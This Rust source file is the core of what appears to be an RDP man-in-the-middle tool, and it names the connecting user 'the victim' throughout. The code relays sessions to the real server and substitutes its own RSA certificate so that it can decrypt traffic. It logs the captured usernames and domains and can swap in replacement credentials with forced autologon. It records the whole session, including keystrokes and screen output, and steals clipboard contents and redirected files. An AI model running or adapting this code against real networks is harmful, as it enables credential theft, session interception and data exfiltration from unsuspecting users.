//! The orchestrator: owns the two sides of a session, advances their
//! connection state machines in lock step, and hosts the credential,
//! clipboard and file stealers.

use std::collections::HashMap;
use std::path::PathBuf;

use rdpspy_pdu::crypto::{ProprietaryCertificate, RsaPublicKey};
use rdpspy_pdu::fast_path::{EncryptionFlags, FastPathHeader, FastPathInputHeader};
use rdpspy_pdu::gcc::{ChannelDef, ChannelOptions};
use rdpspy_pdu::mcs::{
    AttachUserConfirm, AttachUserRequest, ChannelJoinConfirm, ChannelJoinRequest, ConnectInitial, ConnectResponse,
    DisconnectProviderUltimatum, DisconnectReason, McsMessage, SendDataIndication, SendDataRequest,
};
use rdpspy_pdu::nego::{ConnectionConfirm, ConnectionRequest, FailureCode};
use rdpspy_pdu::rdp::client_info::{ClientInfo, ClientInfoFlags, CompressionType};
use rdpspy_pdu::rdp::headers::{BasicSecurityHeaderFlags, ShareControlHeader};
use rdpspy_pdu::{decode, encode_vec};
use rsa::traits::{PrivateKeyParts as _, PublicKeyParts as _};

use crate::artifact::ArtifactVault;
use crate::channels::{
    chunk_message, security_exchange_wrap, security_unwrap, security_wrap, ChannelKind, ChunkReassembly,
    ClipboardStealer, FileStealer, SecurityEvent,
};
use crate::layer::StackOutput;
use crate::recorder::{PlayerMessageType, Recorder};
use crate::secure::{MitmRsaKey, SecurityMode, SecuritySettings, SideShared};
use crate::stacks::{build_fast_path_frame, MitmEvent, TopStack};
use crate::{SessionError, SessionResult, Side};

const RSA_KEY_BITS: usize = 2048;
const RSA_KEY_PADDING: usize = 8;
const PROPRIETARY_SIGNATURE_LEN: usize = 72;

/// Fallback initiator id when the victim's user id is not known yet.
const DEFAULT_USER_ID: u16 = 1002;

/// What the transport driver must do after feeding bytes into the engine.
#[derive(Debug, PartialEq, Eq)]
pub enum MitmAction {
    WriteFront(Vec<u8>),
    WriteBack(Vec<u8>),
    /// Accept a TLS handshake from the victim using the proxy certificate.
    StartTlsFront,
    /// Upgrade the server connection to TLS (no certificate verification).
    StartTlsBack,
    /// Tear both connections down.
    Close,
}

/// Session parameters handed in by the CLI.
#[derive(Debug, Clone)]
pub struct MitmConfig {
    pub replacement_username: Option<String>,
    pub replacement_password: Option<String>,
    pub artifacts_dir: PathBuf,
}

impl Default for MitmConfig {
    fn default() -> Self {
        Self {
            replacement_username: None,
            replacement_password: None,
            artifacts_dir: PathBuf::from("./saved_files"),
        }
    }
}

struct SideState {
    shared: SideShared,
    stack: TopStack,
}

impl SideState {
    fn new(side: Side) -> Self {
        let mode = match side {
            Side::Front => SecurityMode::Server,
            Side::Back => SecurityMode::Client,
        };

        Self {
            shared: SideShared {
                side,
                security: SecuritySettings::new(mode),
            },
            stack: TopStack::new(side),
        }
    }
}

struct ChannelState {
    kind: ChannelKind,
    show_protocol: bool,
    reassembly_front: ChunkReassembly,
    reassembly_back: ChunkReassembly,
}

/// The session engine.
pub struct RdpMitm {
    config: MitmConfig,
    recorder: Recorder,
    vault: ArtifactVault,

    front: SideState,
    back: SideState,

    channel_defs: Vec<ChannelDef>,
    channel_map: HashMap<u16, String>,
    channels: HashMap<u16, ChannelState>,
    io_channel_id: Option<u16>,
    user_id: Option<u16>,

    clipboard: ClipboardStealer,
    file_steal: FileStealer,

    closed: bool,
}

impl RdpMitm {
    pub fn new(config: MitmConfig, recorder: Recorder) -> Self {
        let vault = ArtifactVault::new(config.artifacts_dir.clone());

        Self {
            config,
            recorder,
            vault,
            front: SideState::new(Side::Front),
            back: SideState::new(Side::Back),
            channel_defs: Vec::new(),
            channel_map: HashMap::new(),
            channels: HashMap::new(),
            io_channel_id: None,
            user_id: None,
            clipboard: ClipboardStealer::new(),
            file_steal: FileStealer::new(),
            closed: false,
        }
    }

    /// Feeds bytes read from the victim's connection.
    pub fn bytes_from_front(&mut self, bytes: &[u8]) -> Vec<MitmAction> {
        self.process(Side::Front, bytes)
    }

    /// Feeds bytes read from the target server's connection.
    pub fn bytes_from_back(&mut self, bytes: &[u8]) -> Vec<MitmAction> {
        self.process(Side::Back, bytes)
    }

    /// One side's TCP connection closed; mirrors the close.
    pub fn peer_closed(&mut self, side: Side) -> Vec<MitmAction> {
        debug!(%side, "peer connection closed");
        self.record_close();
        vec![MitmAction::Close]
    }

    /// Finalizes the recording; idempotent.
    pub fn shutdown(&mut self) {
        self.record_close();
    }

    fn record_close(&mut self) {
        if !self.closed {
            self.closed = true;
            self.recorder.record(PlayerMessageType::ConnectionClose, &[]);
        }
    }

    fn process(&mut self, side: Side, bytes: &[u8]) -> Vec<MitmAction> {
        let mut actions = Vec::new();

        let output = {
            let state = self.side_mut(side);
            state.stack.recv(&mut state.shared, bytes)
        };

        match output {
            Ok(output) => self.flush(side, output, &mut actions),
            Err(e) => {
                error!(%side, error = %e, "fatal error while parsing traffic, tearing the session down");
                self.record_close();
                actions.push(MitmAction::Close);
            }
        }

        actions
    }

    fn side_mut(&mut self, side: Side) -> &mut SideState {
        match side {
            Side::Front => &mut self.front,
            Side::Back => &mut self.back,
        }
    }

    /// Turns a stack output into transport actions and handles its events.
    fn flush(&mut self, side: Side, output: StackOutput, actions: &mut Vec<MitmAction>) {
        self.push_transport(side, &output, actions);

        for event in output.events {
            if let Err(e) = self.handle_event(side, event, actions) {
                error!(%side, error = %e, "fatal error while bridging, tearing the session down");
                self.record_close();
                actions.push(MitmAction::Close);
                return;
            }
        }
    }

    fn push_transport(&self, side: Side, output: &StackOutput, actions: &mut Vec<MitmAction>) {
        for bytes in &output.transport {
            let action = match side {
                Side::Front => MitmAction::WriteFront(bytes.clone()),
                Side::Back => MitmAction::WriteBack(bytes.clone()),
            };
            actions.push(action);
        }
    }

    fn send_tpdu<T: rdpspy_pdu::PduEncode>(
        &mut self,
        to: Side,
        pdu: &T,
        actions: &mut Vec<MitmAction>,
    ) -> SessionResult<()> {
        let output = {
            let state = self.side_mut(to);
            state.stack.send_tpdu(&mut state.shared, pdu)?
        };
        self.push_transport(to, &output, actions);
        Ok(())
    }

    fn send_mcs<T: rdpspy_pdu::PduEncode>(
        &mut self,
        to: Side,
        pdu: &T,
        actions: &mut Vec<MitmAction>,
    ) -> SessionResult<()> {
        let output = {
            let state = self.side_mut(to);
            state.stack.send_mcs(&mut state.shared, pdu)?
        };
        self.push_transport(to, &output, actions);
        Ok(())
    }

    /// Sends an already security-wrapped payload on a channel towards `to`.
    fn send_channel(
        &mut self,
        to: Side,
        channel_id: u16,
        payload: Vec<u8>,
        actions: &mut Vec<MitmAction>,
    ) -> SessionResult<()> {
        let initiator_id = self.user_id.unwrap_or(DEFAULT_USER_ID);

        let message = match to {
            // Towards the server the proxy speaks as the client.
            Side::Back => McsMessage::SendDataRequest(SendDataRequest {
                initiator_id,
                channel_id,
                user_data: payload,
            }),
            Side::Front => McsMessage::SendDataIndication(SendDataIndication {
                initiator_id,
                channel_id,
                user_data: payload,
            }),
        };

        self.send_mcs(to, &message, actions)
    }

    fn handle_event(&mut self, side: Side, event: MitmEvent, actions: &mut Vec<MitmAction>) -> SessionResult<()> {
        match (side, event) {
            (Side::Front, MitmEvent::X224ConnectionRequest(request)) => {
                self.on_connection_request(request, actions)
            }
            (Side::Back, MitmEvent::X224ConnectionConfirm(confirm)) => self.on_connection_confirm(confirm, actions),
            (Side::Front, MitmEvent::McsConnectInitial(initial)) => self.on_connect_initial(*initial, actions),
            (Side::Back, MitmEvent::McsConnectResponse(response)) => self.on_connect_response(*response, actions),
            (Side::Front, MitmEvent::McsErectDomain(pdu)) => {
                self.send_mcs(Side::Back, &McsMessage::ErectDomainRequest(pdu), actions)
            }
            (Side::Front, MitmEvent::McsAttachUserRequest) => {
                self.send_mcs(Side::Back, &McsMessage::AttachUserRequest(AttachUserRequest), actions)
            }
            (Side::Back, MitmEvent::McsAttachUserConfirm(confirm)) => self.on_attach_user_confirm(confirm, actions),
            (Side::Front, MitmEvent::McsChannelJoinRequest(request)) => self.on_channel_join_request(request, actions),
            (Side::Back, MitmEvent::McsChannelJoinConfirm(confirm)) => self.on_channel_join_confirm(confirm, actions),
            (_, MitmEvent::McsDisconnect(reason)) => self.on_disconnect_ultimatum(side, reason, actions),
            (_, MitmEvent::X224DisconnectRequest) => {
                debug!(%side, "X.224 disconnect request received");
                self.record_close();
                actions.push(MitmAction::Close);
                Ok(())
            }
            (_, MitmEvent::ChannelData {
                initiator_id: _,
                channel_id,
                data,
            }) => self.on_channel_data(side, channel_id, data, actions),
            (Side::Front, MitmEvent::FastPathInput { num_events, payload }) => {
                self.on_fast_path_input(num_events, payload, actions)
            }
            (Side::Back, MitmEvent::FastPathOutput { payload }) => self.on_fast_path_output(payload, actions),
            (_, MitmEvent::UnknownHeader(header)) => {
                error!(%side, header = format_args!("0x{header:02x}"), "unknown segmentation header");
                Err(SessionError::UnknownHeader(header))
            }
            (side, event) => {
                warn!(%side, ?event, "PDU received from an unexpected direction, dropping it");
                Ok(())
            }
        }
    }

    fn on_connection_request(
        &mut self,
        request: ConnectionRequest,
        actions: &mut Vec<MitmAction>,
    ) -> SessionResult<()> {
        if let Some(data) = &request.nego_data {
            debug!(?data, "connection request cookie");
        }
        debug!(protocol = ?request.protocol, "forwarding X.224 connection request");

        self.send_tpdu(Side::Back, &request, actions)
    }

    fn on_connection_confirm(&mut self, confirm: ConnectionConfirm, actions: &mut Vec<MitmAction>) -> SessionResult<()> {
        match confirm {
            ConnectionConfirm::Failure { code } => {
                if code == FailureCode::HYBRID_REQUIRED_BY_SERVER {
                    error!(
                        "server returned a negotiation failure, most likely because NLA is enforced \
                         and the proxy does not handle NLA"
                    );
                } else {
                    error!(code = ?code, "server refused the connection");
                }

                self.send_tpdu(Side::Front, &confirm, actions)?;
                self.record_close();
                actions.push(MitmAction::Close);
                Ok(())
            }
            ConnectionConfirm::Response { protocol, .. } => {
                if protocol.requires_nla() {
                    error!("server selected CredSSP, which the proxy cannot terminate");
                    let failure = ConnectionConfirm::Failure {
                        code: FailureCode::SSL_WITH_USER_AUTH_REQUIRED_BY_SERVER,
                    };
                    self.send_tpdu(Side::Front, &failure, actions)?;
                    self.record_close();
                    actions.push(MitmAction::Close);
                    return Ok(());
                }

                let use_tls = protocol.is_tls_based();
                self.front.shared.security.set_use_tls(use_tls);
                self.back.shared.security.set_use_tls(use_tls);

                debug!(?protocol, use_tls, "forwarding X.224 connection confirm");
                self.send_tpdu(Side::Front, &confirm, actions)?;

                if use_tls {
                    actions.push(MitmAction::StartTlsBack);
                    actions.push(MitmAction::StartTlsFront);
                }

                Ok(())
            }
        }
    }

    fn on_connect_initial(&mut self, mut initial: ConnectInitial, actions: &mut Vec<MitmAction>) -> SessionResult<()> {
        let blocks = &mut initial.conference_create_request.gcc_blocks;

        info!(
            client_name = %blocks.core.client_name,
            width = blocks.core.desktop_width,
            height = blocks.core.desktop_height,
            "client data received"
        );

        match encode_vec(&*blocks) {
            Ok(payload) => self.recorder.record(PlayerMessageType::ClientData, &payload),
            Err(e) => warn!(error = %e, "failed to serialize client data for the recording"),
        }

        if let Some(flags) = blocks.core.optional_data.early_capability_flags.as_mut() {
            flags.remove(rdpspy_pdu::gcc::ClientEarlyCapabilityFlags::WANT_32_BPP_SESSION);
        }

        self.channel_defs = blocks.channel_definitions();

        self.send_mcs(Side::Back, &initial, actions)
    }

    fn on_connect_response(&mut self, mut response: ConnectResponse, actions: &mut Vec<MitmAction>) -> SessionResult<()> {
        let blocks = &response.conference_create_response.gcc_blocks;

        let io_channel = blocks.network.io_channel;
        self.io_channel_id = Some(io_channel);
        self.channel_map.insert(io_channel, "I/O".to_owned());

        for (channel_id, definition) in blocks.network.channel_ids.iter().zip(self.channel_defs.iter()) {
            let name = definition.name.as_str().unwrap_or("unknown").to_owned();
            debug!(channel_id, %name, "channel announced by the server");
            self.channel_map.insert(*channel_id, name);
        }

        self.back.shared.security.server_security_received(&blocks.security)?;
        self.front.shared.security.server_security_received(&blocks.security)?;

        if self.back.shared.security.is_native() {
            self.back.shared.security.generate_client_random()?;

            // The victim must encrypt its client random with a key the proxy
            // can invert, so the server certificate is replaced with one
            // generated for this session.
            let key = generate_session_rsa_key()?;
            let certificate = ProprietaryCertificate {
                public_key: key.public.clone(),
                signature: vec![0; PROPRIETARY_SIGNATURE_LEN],
            };

            response.conference_create_response.gcc_blocks.security.server_cert = encode_vec(&certificate)?;
            self.front.shared.security.set_own_key(key);
        }

        self.send_mcs(Side::Front, &response, actions)
    }

    fn on_attach_user_confirm(&mut self, confirm: AttachUserConfirm, actions: &mut Vec<MitmAction>) -> SessionResult<()> {
        if confirm.result == 0 {
            self.user_id = Some(confirm.initiator_id);
            debug!(user_id = confirm.initiator_id, "MCS user attached");
        } else {
            warn!(result = confirm.result, "MCS attach user refused");
        }

        self.send_mcs(Side::Front, &McsMessage::AttachUserConfirm(confirm), actions)
    }

    fn on_channel_join_request(&mut self, request: ChannelJoinRequest, actions: &mut Vec<MitmAction>) -> SessionResult<()> {
        debug!(channel_id = request.channel_id, "channel join requested");
        self.send_mcs(Side::Back, &McsMessage::ChannelJoinRequest(request), actions)
    }

    fn on_channel_join_confirm(&mut self, confirm: ChannelJoinConfirm, actions: &mut Vec<MitmAction>) -> SessionResult<()> {
        if confirm.result == 0 {
            self.build_channel(confirm.initiator_id, confirm.channel_id, actions)?;
        } else {
            warn!(
                channel_id = confirm.requested_channel_id,
                result = confirm.result,
                "channel join refused"
            );
        }

        self.send_mcs(Side::Front, &McsMessage::ChannelJoinConfirm(confirm), actions)
    }

    /// Creates the channel state for an accepted join, keyed by its name.
    fn build_channel(&mut self, user_id: u16, channel_id: u16, actions: &mut Vec<MitmAction>) -> SessionResult<()> {
        if self.channels.contains_key(&channel_id) {
            return Ok(());
        }

        let name = self
            .channel_map
            .get(&channel_id)
            .cloned()
            .unwrap_or_else(|| format!("({channel_id})"));
        let kind = ChannelKind::from_channel_name(&name);

        let show_protocol = self
            .channel_defs
            .iter()
            .find(|def| def.name.as_str() == Some(name.as_str()))
            .map(|def| def.options.contains(ChannelOptions::SHOW_PROTOCOL))
            .unwrap_or(false);

        debug!(channel_id, user_id, %name, ?kind, "building channel");

        self.channels.insert(
            channel_id,
            ChannelState {
                kind,
                show_protocol,
                reassembly_front: ChunkReassembly::new(),
                reassembly_back: ChunkReassembly::new(),
            },
        );

        // Joining the I/O channel completes the connection sequence far
        // enough to run the security exchange towards the real server.
        if Some(channel_id) == self.io_channel_id && self.back.shared.security.is_native() {
            debug!("sending security exchange");
            let encrypted = self.back.shared.security.encrypt_client_random()?;
            let payload = security_exchange_wrap(encrypted)?;
            self.send_channel(Side::Back, channel_id, payload, actions)?;
        }

        Ok(())
    }

    fn on_channel_data(
        &mut self,
        side: Side,
        channel_id: u16,
        data: Vec<u8>,
        actions: &mut Vec<MitmAction>,
    ) -> SessionResult<()> {
        let unwrapped = {
            let state = self.side_mut(side);
            security_unwrap(&mut state.shared, &data)?
        };

        match unwrapped {
            SecurityEvent::SecurityExchange(encrypted) => {
                if side != Side::Front {
                    return Err(SessionError::Protocol("security exchange from the server side"));
                }

                debug!("security exchange received from the victim");
                self.front.shared.security.client_random_received(&encrypted)?;
                // Consumed: the proxy already ran its own exchange with the
                // real server.
                Ok(())
            }
            SecurityEvent::ClientInfo(plaintext) => {
                if side != Side::Front {
                    return Err(SessionError::Protocol("client info from the server side"));
                }

                self.on_client_info(channel_id, plaintext, actions)
            }
            SecurityEvent::LicensingData(plaintext) => {
                debug!(%side, "licensing data received");

                let peer = side.peer();
                let wrapped = {
                    let state = self.side_mut(peer);
                    security_wrap(&mut state.shared, BasicSecurityHeaderFlags::LICENSE_PKT, &plaintext)?
                };
                self.send_channel(peer, channel_id, wrapped, actions)?;

                // Once licensing completed, sessions without RDP standard
                // security stop carrying the basic security header.
                if !self.front.shared.security.is_native() {
                    self.front.shared.security.security_header_expected = false;
                    self.back.shared.security.security_header_expected = false;
                }

                Ok(())
            }
            SecurityEvent::Data(plaintext) => self.on_channel_payload(side, channel_id, plaintext, actions),
        }
    }

    fn on_client_info(&mut self, channel_id: u16, plaintext: Vec<u8>, actions: &mut Vec<MitmAction>) -> SessionResult<()> {
        self.recorder.record(PlayerMessageType::ClientInfo, &plaintext);

        let mut info: ClientInfo = decode(&plaintext)?;

        info!(
            username = %info.credentials.username,
            domain = info.credentials.domain.as_deref().unwrap_or(""),
            "client credentials captured"
        );

        if let Some(username) = &self.config.replacement_username {
            info.credentials.username = username.clone();
        }
        if let Some(password) = &self.config.replacement_password {
            info.credentials.password = password.clone();
        }
        if self.config.replacement_username.is_some() && self.config.replacement_password.is_some() {
            info.flags |= ClientInfoFlags::AUTOLOGON;
        }

        // Ask the server for no compression; whether it honors the cleared
        // flags is an open question, flagged for empirical testing.
        info.flags -= ClientInfoFlags::COMPRESSION;
        info.compression_type = CompressionType::K8;

        let encoded = encode_vec(&info)?;
        let wrapped = {
            let state = self.side_mut(Side::Back);
            security_wrap(&mut state.shared, BasicSecurityHeaderFlags::INFO_PKT, &encoded)?
        };

        self.send_channel(Side::Back, channel_id, wrapped, actions)
    }

    fn on_channel_payload(
        &mut self,
        side: Side,
        channel_id: u16,
        plaintext: Vec<u8>,
        actions: &mut Vec<MitmAction>,
    ) -> SessionResult<()> {
        let kind = self
            .channels
            .get(&channel_id)
            .map(|state| state.kind)
            .unwrap_or(ChannelKind::Raw);

        match kind {
            ChannelKind::Io => {
                self.recorder.record(PlayerMessageType::SlowPathPdu, &plaintext);

                match decode::<ShareControlHeader>(&plaintext) {
                    Ok(header) => {
                        trace!(%side, pdu = header.pdu_type.as_short_name(), "slow-path PDU")
                    }
                    Err(e) => debug!(%side, error = %e, "unparsed slow-path PDU"),
                }

                self.forward_channel_payload(side, channel_id, &plaintext, actions)
            }
            ChannelKind::Clipboard => {
                let Some(message) = self.reassemble(side, channel_id, &plaintext)? else {
                    return Ok(());
                };

                let outcome = self.clipboard.handle(side, &message);

                if let Some(payload) = &outcome.record {
                    self.recorder.record(PlayerMessageType::ClipboardData, payload);
                }

                if outcome.forward {
                    self.forward_channel_message(side.peer(), channel_id, &message, actions)?;
                }

                if let Some(request) = outcome.request_back {
                    self.forward_channel_message(side, channel_id, &request, actions)?;
                }

                Ok(())
            }
            ChannelKind::DeviceRedirection => {
                let Some(message) = self.reassemble(side, channel_id, &plaintext)? else {
                    return Ok(());
                };

                match side {
                    Side::Front => self.file_steal.observe_from_front(&message),
                    Side::Back => self.file_steal.observe_from_back(&message, &self.vault),
                }

                self.forward_channel_message(side.peer(), channel_id, &message, actions)
            }
            ChannelKind::Raw => self.forward_channel_payload(side, channel_id, &plaintext, actions),
        }
    }

    /// Reassembles the chunked virtual channel stream of one direction.
    fn reassemble(&mut self, side: Side, channel_id: u16, chunk: &[u8]) -> SessionResult<Option<Vec<u8>>> {
        let state = self
            .channels
            .get_mut(&channel_id)
            .ok_or(SessionError::Protocol("data on an unknown channel"))?;

        let reassembly = match side {
            Side::Front => &mut state.reassembly_front,
            Side::Back => &mut state.reassembly_back,
        };

        reassembly.process(chunk)
    }

    /// Forwards a raw channel payload (no reassembly) to the peer.
    fn forward_channel_payload(
        &mut self,
        from: Side,
        channel_id: u16,
        plaintext: &[u8],
        actions: &mut Vec<MitmAction>,
    ) -> SessionResult<()> {
        let to = from.peer();
        let wrapped = {
            let state = self.side_mut(to);
            security_wrap(&mut state.shared, BasicSecurityHeaderFlags::empty(), plaintext)?
        };

        self.send_channel(to, channel_id, wrapped, actions)
    }

    /// Chunks, wraps and sends a complete virtual channel message.
    fn forward_channel_message(
        &mut self,
        to: Side,
        channel_id: u16,
        message: &[u8],
        actions: &mut Vec<MitmAction>,
    ) -> SessionResult<()> {
        let show_protocol = self
            .channels
            .get(&channel_id)
            .map(|state| state.show_protocol)
            .unwrap_or(false);

        for chunk in chunk_message(message, show_protocol)? {
            let wrapped = {
                let state = self.side_mut(to);
                security_wrap(&mut state.shared, BasicSecurityHeaderFlags::empty(), &chunk)?
            };
            self.send_channel(to, channel_id, wrapped, actions)?;
        }

        Ok(())
    }

    fn on_fast_path_input(&mut self, num_events: u8, payload: Vec<u8>, actions: &mut Vec<MitmAction>) -> SessionResult<()> {
        let mut record = encode_vec(&FastPathInputHeader {
            flags: EncryptionFlags::empty(),
            data_length: payload.len(),
            num_events,
        })?;
        record.extend_from_slice(&payload);
        self.recorder.record(PlayerMessageType::FastPathInput, &record);

        let frame = build_fast_path_frame(&mut self.back.shared, num_events, &payload)?;
        let output = {
            let state = self.side_mut(Side::Back);
            state.stack.send_frame(&mut state.shared, &frame)?
        };
        self.push_transport(Side::Back, &output, actions);

        Ok(())
    }

    fn on_fast_path_output(&mut self, payload: Vec<u8>, actions: &mut Vec<MitmAction>) -> SessionResult<()> {
        let mut record = encode_vec(&FastPathHeader::new(EncryptionFlags::empty(), payload.len()))?;
        record.extend_from_slice(&payload);
        self.recorder.record(PlayerMessageType::FastPathOutput, &record);

        let frame = build_fast_path_frame(&mut self.front.shared, 0, &payload)?;
        let output = {
            let state = self.side_mut(Side::Front);
            state.stack.send_frame(&mut state.shared, &frame)?
        };
        self.push_transport(Side::Front, &output, actions);

        Ok(())
    }

    fn on_disconnect_ultimatum(
        &mut self,
        side: Side,
        reason: DisconnectReason,
        actions: &mut Vec<MitmAction>,
    ) -> SessionResult<()> {
        debug!(%side, %reason, "disconnect provider ultimatum received");

        let peer = side.peer();
        self.send_mcs(
            peer,
            &McsMessage::DisconnectProviderUltimatum(DisconnectProviderUltimatum::from_reason(reason)),
            actions,
        )?;

        self.record_close();
        actions.push(MitmAction::Close);
        Ok(())
    }
}

/// Generates the RSA key pair presented to the victim in place of the real
/// server's certificate.
fn generate_session_rsa_key() -> SessionResult<MitmRsaKey> {
    let mut rng = rand::thread_rng();

    let private = rsa::RsaPrivateKey::new(&mut rng, RSA_KEY_BITS)
        .map_err(|_| SessionError::Protocol("RSA key generation failed"))?;

    let modulus_be = private.n().to_bytes_be();
    let private_exponent_be = private.d().to_bytes_be();

    let exponent_bytes = private.e().to_bytes_be();
    let mut public_exponent: u32 = 0;
    for byte in exponent_bytes {
        public_exponent = (public_exponent << 8) | u32::from(byte);
    }

    let mut modulus_le: Vec<u8> = modulus_be.iter().rev().copied().collect();
    modulus_le.extend_from_slice(&[0u8; RSA_KEY_PADDING]);

    let public = RsaPublicKey {
        public_exponent,
        modulus: modulus_le,
    };

    Ok(MitmRsaKey::new(public, modulus_be, private_exponent_be))
}

#[cfg(test)]
mod tests;
